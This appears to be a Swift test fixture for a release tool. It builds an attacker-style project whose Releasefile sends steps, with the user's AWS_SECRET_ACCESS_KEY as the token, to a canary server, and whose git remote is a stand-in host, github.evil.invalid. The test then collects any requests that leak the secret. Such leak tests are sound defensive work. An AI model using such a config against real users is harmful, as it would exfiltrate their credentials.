import TestSupport
import Testing

/// A project of an attacker: its Releasefile names a variable of the user, and a server of the attacker, wherever it can.
struct CanaryProject {
  static let secret = "supersecretvalue12345"

  let project: StrangeProject
  let server: CanaryServer

  /// A lane for each kind of step that can send a credential; the names are those of the lanes.
  static let lanes = [
    "tree", "docs", "tap", "draft", "blog", "social", "proposed",
  ]

  init() throws {
    project = try StrangeProject()
    server = try CanaryServer()
    let address = server.address
    let target = #"repository: "\#(address)/o/t.git", token_env: AWS_SECRET_ACCESS_KEY"#
    let channels = ["blog", "social"].map {
      "  \($0): {steps: [announce: {channels: [\($0)], tag: 1.4.2}]}\n"
    }
    try project.write(
      "Releasefile",
      """
      project: Cool
      manifests: [{plain: VERSION}]
      forge: {kind: github, url: "\(address)", token_env: AWS_SECRET_ACCESS_KEY}
      channels:
        blog: {kind: micropub, endpoint: "\(address)/micropub", token_env: AWS_SECRET_ACCESS_KEY}
        social: {kind: mastodon, server: "\(address)", token_env: AWS_SECRET_ACCESS_KEY}
      lanes:
        tree: {steps: [publish_files: {files: {a: VERSION}, \(target)}]}
        docs: {steps: [publish_files: {docs: {.: site}, base: "", \(target)}]}
        tap:
          steps:
            - publish_files: {formula: Formula/t.rb, archives: {macos: a.zip}, base_url: "https://a.example", template: t.rb, \(target)}
        draft: {steps: [publish_release: {tag: 1.4.2, notes: New., assets: []}]}
        proposed: {pull_request: true, steps: [bump: auto, commit, tag, push]}
      \(channels.joined())
      """)
    try project.write("site/index.html", "<script>var baseUrl = \"/\"</script>\n")
    try project.write("a.zip", "PK\u{3}\u{4}PK\u{5}\u{6}\(String(repeating: "\0", count: 18))")
    try project.write(
      "t.rb", "class T < Formula\n  url \"https://a.example/a.zip\"\n  version \"1.0.0\"\n  sha256 \"\"\nend\n")
    try project.git("add", "--all")
    try project.git("commit", "-qm", "feat: attack")
    try project.git("push", "-q", "origin", "main")
    try project.git("config", "remote.origin.url", "https://github.evil.invalid/owner/tool.git")
    try project.git("config", "url.\(project.root)/origin.git.insteadOf", "https://github.evil.invalid/owner/tool.git")
    for name in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "GH_TOKEN"] { project.environment[name] = Self.secret }
  }

  /// The requests that have the secret in a header or in the address.
  var leaks: [String] { server.requests.filter { $0.contains(Self.secret) } }

  /// The tags and the branches, here and on the remote, and the changed files.
  func state() throws -> String {
    try project.shell("git for-each-ref; git --git-dir ../origin.git for-each-ref; git status --porcelain")
  }
}
